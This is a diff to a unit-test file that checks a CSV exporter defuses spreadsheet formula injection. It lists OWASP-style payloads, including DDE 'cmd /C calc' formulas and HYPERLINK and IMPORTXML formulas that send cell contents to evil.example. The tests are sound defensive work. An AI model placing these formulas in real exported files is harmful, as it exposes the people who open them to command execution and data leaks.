@@ -99,6 +99,10 @@ describe('toSpreadsheetCsv', () => {
 		['\tTab', "'\tTab"],
 		['\rx', '"\'\rx"'],
 		['=A1;B1', '"\'=A1;B1"'],
+		[' =1+1', "' =1+1"],
+		['\n@x', '"\'\n@x"'],
+		['-1', '-1'],
+		['-1 Person', "'-1 Person"],
 		// … the statistics symbols are not.
 		['-', '-'],
 		['.', '.'],
@@ -108,6 +112,33 @@ describe('toSpreadsheetCsv', () => {
 		['*', '*']
 	])('text %j → %j', (text, cell) => {
 		expect(toSpreadsheetCsv([], [[text]])).toBe(`\uFEFF\r\n${cell}\r\n`);
+	});
+
+	// The payloads of the OWASP CSV-injection page, with the spaces, tabs and line breaks that hide them.
+	const OWASP = [
+		"=cmd|' /C calc'!A0",
+		"+cmd|' /C calc'!A0",
+		"-cmd|' /C calc'!A0",
+		"@SUM(1+9)*cmd|' /C calc'!A0",
+		"-1+1+cmd|' /C calc'!A0",
+		"-2+3+cmd|' /C calc'!'E2'",
+		'=HYPERLINK("http://evil.example/?leak="&A1;"Klick")',
+		'=DDE("cmd";"/C calc";"!A0")A0',
+		'=IMPORTXML(CONCAT("http://evil.example/?v=";A2);"//a")',
+		'@SUM(1,2)',
+		'   =1+1',
+		'\t=1+1',
+		'\r=1+1',
+		'\n-1+1',
+		'\t\t+1'
+	];
+	it.each(OWASP)('defuses %j: the cell read back starts with the quote', (payload) => {
+		const csv = toSpreadsheetCsv([], [[payload, 12.5, -3]]);
+		const row = parseRows(decodeCsvBytes(new TextEncoder().encode(csv)).text, ';').at(-1);
+		// The reader turns a lone CR inside quotes into a line break; the cell is the same text.
+		expect(row!.cells[0]).toBe(`'${payload}`.replace(/\r(?!\n)/g, '\n'));
+		// Numbers beside it stay numbers.
+		expect(row!.cells.slice(1)).toEqual(['12,5', '-3']);
 	});
 
 	it('reads back as it was written', () => {
